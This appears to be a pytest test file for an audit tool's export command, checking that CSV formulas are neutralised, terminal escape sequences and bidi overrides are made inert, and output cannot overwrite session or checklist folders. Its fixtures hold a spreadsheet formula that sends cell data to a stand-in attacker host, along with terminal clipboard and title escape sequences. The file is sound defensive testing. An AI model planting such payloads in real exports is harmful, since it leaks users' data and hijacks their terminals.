"""Exports that cannot be turned against the reader: CSV cells a spreadsheet would run as
formulas are made inert (OWASP), a terminal is never driven by a note, and TOML writes C1
controls and bidi overrides as escapes (the values read back are exact)."""

from __future__ import annotations

import csv
import io
import sys
import tomllib

import pytest

from auditui.session_toml import read_session_file

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TERMINAL_NOTE = "clip\x1b]52;c;SGVsbG8=\x07 title\x1b]0;pwned\x07 clear\x1b[2J\x1bc end"
HIDDEN_NOTE = "csi\u009b31m nel\u0085 rlo\u202eevil\u202c sep\u2028"


@pytest.fixture
def session_path(store, checklist, started):
    writer = store.create(checklist, started=started, auditor="@admin")
    writer.answer("4.1-a", result="fail", note=HOSTILE_NOTE)
    writer.answer("4.2-a", result="pass", note="-5 degrees\nsecond line")
    writer.answer("5.1-a", result="na", note=TERMINAL_NOTE)
    writer.answer("5.2-a", result="pass", note=HIDDEN_NOTE)
    writer.close()
    return writer.path


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_that_start_a_formula_are_made_inert(session_path, run_cli) -> None:
    code, out, _ = run_cli("--sessions-dir", session_path.parent, "export", session_path.stem,
                           "--format", "csv")  # fmt: skip
    assert code == 0
    assert out.startswith("\ufeff")  # Excel on Windows reads UTF-8 (Thai, Vietnamese)
    rows = csv_rows(out.removeprefix("\ufeff"))
    notes = {row[0]: row[rows[0].index("note")] for row in rows[1:]}
    assert notes["4.1-a"] == "'" + HOSTILE_NOTE  # readable, not run
    assert notes["4.2-a"] == "'-5 degrees\nsecond line"
    body = out.removeprefix("\ufeff")
    assert all(line.startswith('"') for line in body.split("\r\n") if line)  # every cell quoted


def test_no_bom_leaves_the_byte_order_mark_out(session_path, run_cli) -> None:
    code, out, _ = run_cli("--sessions-dir", session_path.parent, "export", session_path.stem,
                           "--format", "csv", "--no-bom")  # fmt: skip
    assert code == 0 and out.startswith('"item_id"')


class FakeTerminal(io.TextIOWrapper):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("fmt", ["csv", "markdown"])
def test_an_export_to_a_terminal_does_not_drive_it(session_path, monkeypatch, fmt) -> None:
    from auditui.cli import main

    terminal = FakeTerminal(io.BytesIO(), encoding="utf-8")
    monkeypatch.setattr(sys, "stdout", terminal)
    code = main(["--sessions-dir", str(session_path.parent), "export", session_path.stem,
                 "--format", fmt])  # fmt: skip
    terminal.flush()
    shown = terminal.buffer.getvalue().decode("utf-8")
    assert code == 0
    assert "\x1b" not in shown and "\x07" not in shown and "\u009b" not in shown
    assert "\u202e" not in shown and "\r" not in shown.replace("\r\n", "")
    assert "]52;c;SGVsbG8=" in shown  # the text itself is still there, made visible


def test_an_export_into_a_file_stays_exact(session_path, tmp_path, run_cli) -> None:
    target = tmp_path / "out.csv"
    code, _, _ = run_cli("--sessions-dir", session_path.parent, "export", session_path.stem,
                         "--format", "csv", "-o", target)  # fmt: skip
    assert code == 0
    rows = csv_rows(target.read_text("utf-8-sig"))
    assert rows[3][rows[0].index("note")] == TERMINAL_NOTE


def test_toml_writes_c1_controls_and_bidi_overrides_as_escapes(session_path, run_cli) -> None:
    code, out, _ = run_cli("--sessions-dir", session_path.parent, "export", session_path.stem)
    assert code == 0
    for hidden in ("\u009b", "\u0085", "\u202e", "\u202c", "\u2028"):
        assert hidden not in out
    assert "\\u009B" in out and "\\u202E" in out
    document = tomllib.loads(out)
    assert document["results"][3]["note"] == HIDDEN_NOTE  # exact once read
    on_disk = session_path.read_text("utf-8")
    assert "\u202e" not in on_disk
    assert read_session_file(session_path).record("5.2-a").note == HIDDEN_NOTE


@pytest.mark.parametrize(
    ("argv", "name"),
    [
        (["export", "{id}", "--format", "csv"], "{id}.toml"),  # the session itself
        (["report", "{id}", "--format", "markdown"], "other.toml"),  # another session's name
        (["sessions", "--format", "toml"], "findings/list.toml"),  # a folder of its own
    ],
)
def test_output_is_never_written_into_the_sessions_folder(
    session_path, run_cli, argv, name
) -> None:
    """`-o` into the sessions folder would replace a session (the audit gone from every
    list) or add a file read as one; it is refused and nothing there changes."""
    folder = session_path.parent
    before = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    target = folder / name.format(id=session_path.stem)
    argv = [part.format(id=session_path.stem) for part in argv]
    code, out, err = run_cli("--sessions-dir", folder, *argv, "-o", target)
    assert code == 1 and out == ""
    assert err.count("\n") == 1 and "sessions folder" in err and str(target) in err
    assert {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()} == before


def test_output_into_the_sessions_folder_by_another_path_is_refused(
    session_path, tmp_path, run_cli
) -> None:
    link = tmp_path / "shortcut"
    link.symlink_to(session_path.parent)
    before = session_path.read_bytes()
    target = link / ".." / link.name / session_path.name
    code, _, err = run_cli("--sessions-dir", session_path.parent, "export", session_path.stem,
                           "--format", "csv", "-o", target)  # fmt: skip
    assert code == 1 and "sessions folder" in err
    assert session_path.read_bytes() == before


def test_output_into_the_sessions_folder_under_another_name_is_refused(
    session_path, tmp_path, run_cli, monkeypatch
) -> None:
    """On a disk that ignores case (macOS, Windows) `Sessions/` is `sessions/`, and no
    real path says so: the folder is known by its identity on disk. Simulated with a
    second name that the real path is not allowed to unify."""
    alias = tmp_path / "SESSIONS"
    alias.symlink_to(session_path.parent)
    monkeypatch.setattr("auditui.paths.os.path.realpath", lambda path: str(path))
    before = session_path.read_bytes()
    code, _, err = run_cli("--sessions-dir", session_path.parent, "export", session_path.stem,
                           "--format", "csv", "-o", alias / session_path.name)  # fmt: skip
    assert code == 1 and "sessions folder" in err
    assert session_path.read_bytes() == before


def test_a_toml_output_is_never_written_into_a_checklists_folder(
    session_path, tmp_path, run_cli
) -> None:
    checklists = tmp_path / "lists"
    checklists.mkdir()
    code, _, err = run_cli("--checklists-dir", checklists, "--sessions-dir", session_path.parent,
                           "export", session_path.stem, "-o", checklists / "copy.toml")  # fmt: skip
    assert code == 1 and "checklists folder" in err
    assert list(checklists.iterdir()) == []
    # Anything else may go there (a blank checklist printed beside its source, say).
    code, _, _ = run_cli("--checklists-dir", checklists, "--sessions-dir", session_path.parent,
                         "export", session_path.stem, "--format", "markdown",
                         "-o", checklists / "copy.md")  # fmt: skip
    assert code == 0 and (checklists / "copy.md").is_file()
